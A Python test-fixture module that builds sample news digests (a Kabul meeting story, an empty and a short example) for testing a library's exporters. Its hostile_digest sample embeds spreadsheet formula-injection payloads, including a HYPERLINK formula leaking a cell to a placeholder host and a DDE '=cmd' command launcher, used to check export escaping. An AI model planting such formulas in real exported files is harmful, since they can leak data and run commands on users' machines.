"""Hand-built sample digests, for testing exporters and anything else that reads a Digest.

They are built the way the extractors will build them (every offset found in the text, never
typed in), so they stay valid while the extractors are being written:

- :func:`kabul_digest`: two articles after the seed's first two: dated, ranged and undated events,
  a place, affiliations, an alias, times, a quote with its speaker, quantities with a rate.
- :func:`hostile_digest`: text that attacks exports: spreadsheet formulas, a negative number,
  commas, semicolons, quotes, tabs and line breaks inside names and sentences, non-ASCII.
- :func:`empty_digest`: no article at all.
- :func:`example_digest`: one sentence, the example docs/json-contract.md shows in full.

:func:`check_digest` asserts the offsets invariant and that every id referred to exists.
"""

from __future__ import annotations

import datetime as dt

from newskit.models import (
    Actor,
    Article,
    Digest,
    Event,
    Mention,
    Participant,
    Quantity,
    Quote,
    Span,
    TimeExpression,
)

__all__ = ["SAMPLES", "check_digest", "empty_digest", "example_digest", "hostile_digest", "kabul_digest"]


class _Finder:
    """Spans of phrases in one text, found (never counted by hand)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def span(self, phrase: str, nth: int = 1, *, after: int = 0) -> Span:
        """The ``nth`` occurrence of ``phrase`` at or after offset ``after``."""
        start = after - 1
        for _ in range(nth):
            start = self.text.index(phrase, start + 1)
        return Span.of(self.text, start, start + len(phrase))

    def line(self, starting: str, *, after: int = 0) -> Span:
        """The line that begins with ``starting`` (without its line break)."""
        start = self.text.index(starting, after)
        end = self.text.find("\n", start)
        return Span.of(self.text, start, len(self.text) if end < 0 else end)

    def mention(self, phrase: str, article: str, nth: int = 1, *, after: int = 0) -> Mention:
        s = self.span(phrase, nth, after=after)
        return Mention(start=s.start, end=s.end, text=s.text, article=article)


KABUL = """\
Taliban, Belarus Officials Discuss Cooperation

On Sunday, the Taliban’s Ministry of Foreign Affairs announced the visit of Sergei Lukashevich, \
Deputy Minister of Foreign Affairs of Belarus, to Kabul.
According to the ministry’s statement, Sergei Lukashevich met with Sher Mohammad Abbas Stanikzai, \
the Taliban’s Deputy Foreign Minister for Political Affairs, to discuss “political and economic” cooperation.


Anna Paulina Luna has strongly criticised the $40 million aid package.
Last week, Burchett announced that he had submitted a bill to the House of Representatives.
Ms Luna said, “We are sending $40 million a week to the Taliban.”
"""


def kabul_digest(document: str | None = "kabul") -> Digest:
    """Two articles: a meeting in Kabul on Sunday, and a congresswoman's criticism and a bill."""
    f = _Finder(KABUL)
    second = KABUL.index("Anna Paulina Luna")
    a1_title = f.line("Taliban, Belarus")
    a1_s1 = f.line("On Sunday")
    a1_s2 = f.line("According to")
    a2_s1 = f.line("Anna Paulina Luna")
    a2_s2 = f.line("Last week")
    a2_s3 = f.line("Ms Luna")
    sunday = f.span("Sunday", after=a1_s1.start)
    last_week = f.span("Last week")
    a_week = f.span("a week", after=a2_s3.start)

    actors = [
        Actor(
            id="act1",
            name="Taliban",
            kind="group",
            mentions=[
                f.mention("Taliban", "art1"),
                f.mention("Taliban", "art1", 2),
                f.mention("Taliban", "art1", 3),
                f.mention("Taliban", "art2", after=a2_s3.start),
            ],
        ),
        Actor(
            id="act2",
            name="Ministry of Foreign Affairs",
            kind="organization",
            affiliations=["act1"],
            mentions=[f.mention("Ministry of Foreign Affairs", "art1")],
        ),
        Actor(
            id="act3",
            name="Sergei Lukashevich",
            kind="person",
            roles=["Deputy Minister of Foreign Affairs"],
            affiliations=["act4"],
            mentions=[f.mention("Sergei Lukashevich", "art1"), f.mention("Sergei Lukashevich", "art1", 2)],
        ),
        Actor(
            id="act4",
            name="Belarus",
            kind="place",
            mentions=[f.mention("Belarus", "art1"), f.mention("Belarus", "art1", 2)],
        ),
        Actor(id="act5", name="Kabul", kind="place", mentions=[f.mention("Kabul", "art1")]),
        Actor(
            id="act6",
            name="Sher Mohammad Abbas Stanikzai",
            kind="person",
            roles=["Deputy Foreign Minister for Political Affairs"],
            affiliations=["act1"],
            mentions=[f.mention("Sher Mohammad Abbas Stanikzai", "art1")],
        ),
        Actor(
            id="act7",
            name="Anna Paulina Luna",
            kind="person",
            aliases=["Ms Luna"],
            mentions=[f.mention("Anna Paulina Luna", "art2"), f.mention("Ms Luna", "art2")],
        ),
        Actor(id="act8", name="Burchett", kind="person", mentions=[f.mention("Burchett", "art2")]),
        Actor(
            id="act9",
            name="House of Representatives",
            kind="organization",
            mentions=[f.mention("House of Representatives", "art2")],
        ),
    ]
    article1 = Article(
        id="art1",
        start=0,
        end=a1_s2.end,
        title=a1_title,
        paragraphs=[Span.of(KABUL, a1_s1.start, a1_s2.end)],
        sentences=[a1_s1, a1_s2],
        times=[
            TimeExpression(
                id="art1-t1",
                start=sunday.start,
                end=sunday.end,
                text=sunday.text,
                type="DATE",
                value="2025-01-05",
                date_start=dt.date(2025, 1, 5),
                date_end=dt.date(2025, 1, 5),
            )
        ],
        events=[
            Event(
                id="art1-e1",
                type="announce",
                trigger=f.span("announced"),
                sentence=a1_s1,
                participants=[Participant(actor="act2", role="agent"), Participant(actor="act3", role="target")],
                time="art1-t1",
                date_start=dt.date(2025, 1, 5),
                date_end=dt.date(2025, 1, 5),
                cameo="01",
                modality="asserted",
            ),
            Event(
                id="art1-e2",
                type="meet",
                trigger=f.span("met"),
                sentence=a1_s2,
                participants=[Participant(actor="act3", role="agent"), Participant(actor="act6", role="target")],
                date_start=dt.date(2025, 1, 5),
                date_end=dt.date(2025, 1, 5),
                location="act5",
                cameo="04",
                modality="reported",
                date_inherited=True,
            ),
        ],
    )
    article2 = Article(
        id="art2",
        start=second,
        end=len(KABUL) - 1,
        paragraphs=[Span.of(KABUL, second, len(KABUL) - 1)],
        sentences=[a2_s1, a2_s2, a2_s3],
        times=[
            TimeExpression(
                id="art2-t1",
                start=last_week.start,
                end=last_week.end,
                text=last_week.text,
                type="DATE",
                value="2025-W01",
                date_start=dt.date(2024, 12, 30),
                date_end=dt.date(2025, 1, 5),
            ),
            TimeExpression(id="art2-t2", start=a_week.start, end=a_week.end, text=a_week.text, type="SET", value="P1W"),
        ],
        events=[
            Event(
                id="art2-e1",
                type="criticize",
                trigger=f.span("criticised"),
                sentence=a2_s1,
                participants=[Participant(actor="act7", role="agent")],
                cameo="11",
            ),
            Event(
                id="art2-e2",
                type="propose",
                trigger=f.span("submitted"),
                sentence=a2_s2,
                participants=[Participant(actor="act8", role="agent"), Participant(actor="act9", role="participant")],
                time="art2-t1",
                date_start=dt.date(2024, 12, 30),
                date_end=dt.date(2025, 1, 5),
                modality="reported",
            ),
        ],
        quotes=[
            Quote(
                start=(q := f.span("“We are sending $40 million a week to the Taliban.”")).start,
                end=q.end,
                text=q.text,
                speaker="act7",
            )
        ],
        quantities=[
            Quantity(start=(m1 := f.span("$40 million")).start, end=m1.end, text=m1.text, value=40_000_000, unit="USD"),
            Quantity(
                start=(m2 := f.span("$40 million", 2)).start,
                end=m2.end,
                text=m2.text,
                value=40_000_000,
                unit="USD",
                per="P1W",
            ),
        ],
    )
    return Digest(
        text=KABUL, published=dt.date(2025, 1, 9), articles=[article1, article2], actors=actors, document=document
    )


HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click") met @SUM(1+1) in +Town; "Semi;colon, Inc."\r\n'
    "-5 soldiers\twere =cmd|' /C calc'!A0 detained, per ‘sources’ — ünïcödé.\n"
    "Prices fell -3.5 percent.\n"
)


def hostile_digest(document: str | None = "=evil") -> Digest:
    """One article whose names, triggers and sentences start like spreadsheet formulas."""
    f = _Finder(HOSTILE)
    s1 = Span.of(HOSTILE, 0, HOSTILE.index("\r\n"))
    s2 = f.line("-5 soldiers")
    s3 = f.line("Prices fell")
    link = f.span('=HYPERLINK("http://example.invalid/?leak="&A1,"click")')
    at = f.span("@SUM(1+1)")
    town = f.span("+Town")
    inc = f.span('"Semi;colon, Inc."')
    minus = f.span("-5 soldiers")
    actors = [
        Actor(
            id="act1",
            name=link.text,
            kind="person",
            aliases=["=alias"],
            roles=["-role"],
            mentions=[Mention(start=link.start, end=link.end, text=link.text, article="art1")],
        ),
        Actor(
            id="act2",
            name=at.text,
            kind="person",
            affiliations=["act4"],
            mentions=[Mention(start=at.start, end=at.end, text=at.text, article="art1")],
        ),
        Actor(
            id="act3",
            name=town.text,
            kind="place",
            mentions=[Mention(start=town.start, end=town.end, text=town.text, article="art1")],
        ),
        Actor(
            id="act4",
            name=inc.text,
            kind="organization",
            mentions=[Mention(start=inc.start, end=inc.end, text=inc.text, article="art1")],
        ),
        Actor(
            id="act5",
            name=minus.text,
            kind="group",
            mentions=[Mention(start=minus.start, end=minus.end, text=minus.text, article="art1")],
        ),
    ]
    cmd = f.span("=cmd|' /C calc'!A0")
    fell = f.span("-3.5 percent")
    article = Article(
        id="art1",
        start=0,
        end=len(HOSTILE) - 1,
        paragraphs=[s1, Span.of(HOSTILE, s2.start, s3.end)],
        sentences=[s1, s2, s3],
        times=[
            TimeExpression(
                id="art1-t1", start=minus.start, end=minus.start + 2, text="-5", type="DURATION", value="=P5D"
            )
        ],
        events=[
            Event(
                id="art1-e1",
                type="=meet",
                trigger=f.span("met"),
                sentence=s1,
                participants=[Participant(actor="act1", role="agent"), Participant(actor="act2", role="target")],
                location="act3",
                date_start=dt.date(2025, 2, 1),
                date_end=dt.date(2025, 2, 1),
            ),
            Event(
                id="art1-e2",
                type="detain",
                trigger=Span.of(HOSTILE, cmd.start, f.span("detained").end),
                sentence=s2,
                participants=[Participant(actor="act5", role="target"), Participant(actor="act4", role="participant")],
                polarity="negative",
                modality="planned",
                date_start=dt.date(2025, 1, 30),
                date_end=dt.date(2025, 2, 2),
            ),
            Event(id="art1-e3", type="fall", trigger=f.span("fell"), sentence=s3),
        ],
        quotes=[Quote(start=inc.start, end=inc.end, text=inc.text, speaker="act1", kind="fragment")],
        quantities=[Quantity(start=fell.start, end=fell.end, text=fell.text, value=-3.5, unit="percent")],
    )
    return Digest(text=HOSTILE, published=None, articles=[article], actors=actors, document=document)


EXAMPLE = "Belarus Envoy in Kabul\n\nOn Sunday, Sergei Lukashevich met Sher Mohammad Abbas Stanikzai in Kabul.\n"


def example_digest() -> Digest:
    """The short digest that docs/json-contract.md shows in full."""
    f = _Finder(EXAMPLE)
    sentence = f.line("On Sunday")
    sunday = f.span("Sunday")
    return Digest(
        text=EXAMPLE,
        published=dt.date(2025, 1, 9),
        document="example",
        actors=[
            Actor(
                id="act1",
                name="Kabul",
                kind="place",
                mentions=[f.mention("Kabul", "art1"), f.mention("Kabul", "art1", 2)],
            ),
            Actor(
                id="act2", name="Sergei Lukashevich", kind="person", mentions=[f.mention("Sergei Lukashevich", "art1")]
            ),
            Actor(
                id="act3",
                name="Sher Mohammad Abbas Stanikzai",
                kind="person",
                mentions=[f.mention("Sher Mohammad Abbas Stanikzai", "art1")],
            ),
        ],
        articles=[
            Article(
                id="art1",
                start=0,
                end=sentence.end,
                title=f.line("Belarus Envoy"),
                paragraphs=[sentence],
                sentences=[sentence],
                times=[
                    TimeExpression(
                        id="art1-t1",
                        start=sunday.start,
                        end=sunday.end,
                        text=sunday.text,
                        type="DATE",
                        value="2025-01-05",
                        date_start=dt.date(2025, 1, 5),
                        date_end=dt.date(2025, 1, 5),
                    )
                ],
                events=[
                    Event(
                        id="art1-e1",
                        type="meet",
                        trigger=f.span("met"),
                        sentence=sentence,
                        participants=[
                            Participant(actor="act2", role="agent"),
                            Participant(actor="act3", role="target"),
                        ],
                        time="art1-t1",
                        date_start=dt.date(2025, 1, 5),
                        date_end=dt.date(2025, 1, 5),
                        location="act1",
                        cameo="04",
                    )
                ],
            )
        ],
    )


def empty_digest(document: str | None = None) -> Digest:
    """A digest of an empty text: no article, no actor."""
    return Digest(text="", published=dt.date(2025, 1, 9), document=document)


def check_digest(digest: Digest) -> None:
    """Assert what every digest must satisfy: offsets point at their text, ids refer to something."""
    for item in digest.spans():
        assert 0 <= item.start <= item.end <= len(digest.text), item
        assert digest.text[item.start : item.end] == item.text, item
    actors = {a.id for a in digest.actors}
    articles = {a.id for a in digest.articles}
    for actor in digest.actors:
        assert set(actor.affiliations) <= actors
        assert all(m.article in articles for m in actor.mentions)
    for article in digest.articles:
        times = {t.id for t in article.times}
        for event in article.events:
            assert {p.actor for p in event.participants} <= actors
            assert event.location is None or event.location in actors
            assert event.time is None or event.time in times
            assert event.trigger in event.sentence
        assert all(q.speaker is None or q.speaker in actors for q in article.quotes)


SAMPLES = {"kabul": kabul_digest, "hostile": hostile_digest, "empty": empty_digest, "example": example_digest}
